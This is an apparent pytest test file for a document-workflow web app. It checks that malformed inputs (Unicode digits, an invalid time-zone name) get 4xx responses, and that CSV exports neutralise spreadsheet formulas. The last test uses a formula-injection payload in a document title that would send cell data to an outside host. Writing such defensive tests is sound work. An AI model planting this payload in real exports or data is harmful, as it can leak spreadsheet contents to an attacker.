"""Odd input gets a 4xx with a message, never a 500; exports are safe to open."""

from __future__ import annotations

from datetime import timedelta

from web_helpers import NOW, sign_in

from workflow.tokens import create_token


def test_unicode_digits_are_not_numbers(client, world):
    sign_in(client, world.users["coordinator"].email)
    assert client.get("/documents?page=%C2%B2").status_code == 200
    fired = client.post(
        f"/documents/{world.concept.id}/fire", data={"trigger": "withdraw", "lock_version": "²"}
    )
    assert fired.status_code < 500


def test_a_zone_folder_is_an_unknown_time_zone(client, world, session):
    later = (NOW + timedelta(days=9)).strftime("%Y-%m-%dT%H:%M")
    sign_in(client, world.users["secretariat"].email)
    page = client.post(
        f"/rounds/{world.silence.id}/extend",
        data={"new_deadline": later, "timezone": "Asia", "reason": "consultations"},
    )
    assert page.status_code == 422
    assert "Unknown time zone" in page.get_data(as_text=True)
    token = create_token(session, world.users["secretariat"]).secret
    api = client.post(
        f"/api/v1/rounds/{world.silence.id}/extend",
        json={"new_deadline": later + ":00", "timezone": "Asia", "reason": "consultations"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert api.status_code == 422
    assert "time zone" in api.get_json()["detail"]


def test_the_tracker_csv_defuses_spreadsheet_formulas(client, world, session):
    sign_in(client, world.users["secretariat"].email)
    world.concept.title = '=HYPERLINK("http://example.org/?x="&A1,"Open")'
    session.flush()
    csv = client.get("/secretariat/tracker.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in csv
    assert ',"=HYPERLINK' not in csv and ",=HYPERLINK" not in csv
